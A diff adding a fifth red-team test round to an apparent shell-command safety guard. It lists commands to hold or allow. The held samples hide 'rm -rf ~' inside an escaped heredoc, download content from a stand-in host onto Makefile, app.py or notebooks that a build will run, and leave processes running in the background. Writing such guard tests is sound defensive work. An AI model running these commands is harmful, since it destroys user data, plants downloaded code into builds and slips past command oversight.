@@ -485,3 +485,27 @@ def test_round_four_of_red_team_s14() -> None:
     each(ROUND4_SESSIONS, held_last)
     each(ROUND4_ORDINARY, allowed_last)
     each(["/usr/bin/python3 -V", "~/code/x/node_modules/.bin/jest --ci"], allowed)
+
+
+# --- round five: an escaped < before <<<, background anywhere on the line, downloads onto code -
+ROUND5_HELD = [
+    "cat \\<<<E\"OF\"\nhello\nEOF\nrm -rf ~\nE\"OF\"",
+    "curl -s https://e.example/x > Makefile", "curl -s https://e.example/x | tee app.py",
+    "gsutil cat gs://b/x > Makefile", "aws s3 cp s3://b/x - > Makefile",
+    "curl -s https://e.example/x | jq . > out.json",
+]
+ROUND5_ALLOWED = ["cat <<< 'x'", "curl -s https://e.example/x > notes.md", "echo 'a & b'"]
+ROUND5_SESSIONS = [
+    ("sleep 2 && make test || true &", "curl -s https://e.example/x > notes.txt"),
+    ("npm run start:dev && true &", "echo x > src/index2.js"),
+    ("(sleep 60; make test) &", "echo x > notes.txt"),
+    ("curl -s https://e.example/x > docs/index.mkd", "mkdocs build"),
+    ("curl -s https://e.example/x > docs/run.ipynb", "make html"),
+]
+
+
+def test_round_five_of_red_team_s14() -> None:
+    each(ROUND5_HELD, held)
+    each(ROUND5_ALLOWED, allowed)
+    each(ROUND5_SESSIONS, held_last)
+    each([("make test", "echo x > notes.txt")], allowed_last)
